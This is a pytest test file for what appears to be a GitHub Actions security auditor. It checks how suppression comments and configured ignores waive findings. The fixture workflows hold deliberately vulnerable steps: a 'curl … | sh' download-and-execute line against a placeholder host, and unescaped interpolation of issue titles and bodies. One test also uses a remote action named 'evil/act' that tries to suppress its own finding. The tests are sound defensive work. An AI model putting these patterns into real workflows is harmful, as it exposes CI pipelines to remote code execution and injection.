from __future__ import annotations

from pathlib import Path

import pytest

from bastion._internal.config import load_config
from bastion._internal.errors import ConfigError
from bastion._internal.workflows.audit import audit_repository
from bastion._internal.workflows.suppress import parse_ignore, scan
from tests.workflows.helpers import audit, of_rule, write

WORKFLOW = """\
on: issues
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}" # bastion: ignore[template-injection] SEC-12
      # bastion: ignore[download-execute, template-injection] vendor installer, reviewed
      - run: curl https://x.example/i.sh | sh && echo ${{ github.event.issue.body }}
      - run: echo ${{ github.event.issue.body }} # bastion: ignore[template-injection]
      - run: echo ${{ github.event.issue.body }} # bastion: ignore[artipacked] wrong rule
"""


def test_scan_reads_rules_reason_and_next_line() -> None:
    found = scan("a # bastion: ignore[x, y] why\n# bastion: ignore[z] standalone\nb\n")
    assert found[1].rules == frozenset({"x", "y"}) and found[1].reason == "why"
    assert found[2].rules == frozenset({"z"}) and found[3] is found[2]
    assert 4 not in found and 2 in found


def test_inline_suppressions(tmp_path: Path) -> None:
    result = audit(tmp_path, {"a.yml": WORKFLOW})
    kept = of_rule(result, "template-injection")
    assert [f.location.line for f in kept if f.location] == [10, 11]
    assert "gives no reason, so it is not honoured" in kept[0].message
    assert of_rule(result, "download-execute") == []
    waived = sorted(
        (w.finding.rule_id, w.finding.location.line)
        for w in result.suppressed
        if w.finding.location
    )
    assert waived == [("download-execute", 9), ("template-injection", 7), ("template-injection", 9)]
    assert {w.waiver.reason for w in result.suppressed} >= {"vendor installer, reviewed"}


def test_remote_actions_cannot_suppress_themselves(tmp_path: Path) -> None:
    workflow = (
        "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n"
        "      - uses: evil/act@main\n"
    )
    action = (
        "runs:\n  using: composite\n  steps:\n"
        "    - run: echo ${{ github.event.issue.title }}"
        " # bastion: ignore[template-injection] trust me\n"
        "      shell: bash\n"
    )
    result = audit(tmp_path, {"a.yml": workflow}, actions={"evil/act/main/action.yml": action})
    assert len(of_rule(result, "template-injection")) == 1
    assert result.suppressed == ()


def test_configured_ignores(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    write(root, {".github/workflows/a.yml": WORKFLOW.replace("# bastion:", "# no:")})
    write(
        root,
        {
            "bastion.toml": 'workflow-ignore = ["template-injection:.github/workflows/a.yml:10", '
            '"download-execute:.github/workflows/a.yml"]\n'
        },
    )
    config = load_config(root)
    result = audit_repository(root, ignores=config.workflow_ignores, config_path=config.path)
    assert [f.location.line for f in of_rule(result, "template-injection") if f.location] == [
        7,
        9,
        11,
    ]
    assert of_rule(result, "download-execute") == []
    assert len(result.suppressed) == 2


@pytest.mark.parametrize("entry", ["nothing", "rule:", ":path"])
def test_bad_ignore_entries(tmp_path: Path, entry: str) -> None:
    with pytest.raises(ValueError, match="RULE:PATH"):
        parse_ignore(entry)
    (tmp_path / "bastion.toml").write_text(f'\nworkflow-ignore = ["{entry}"]\n')
    with pytest.raises(ConfigError, match="workflow-ignore") as info:
        load_config(tmp_path)
    assert info.value.line == 2
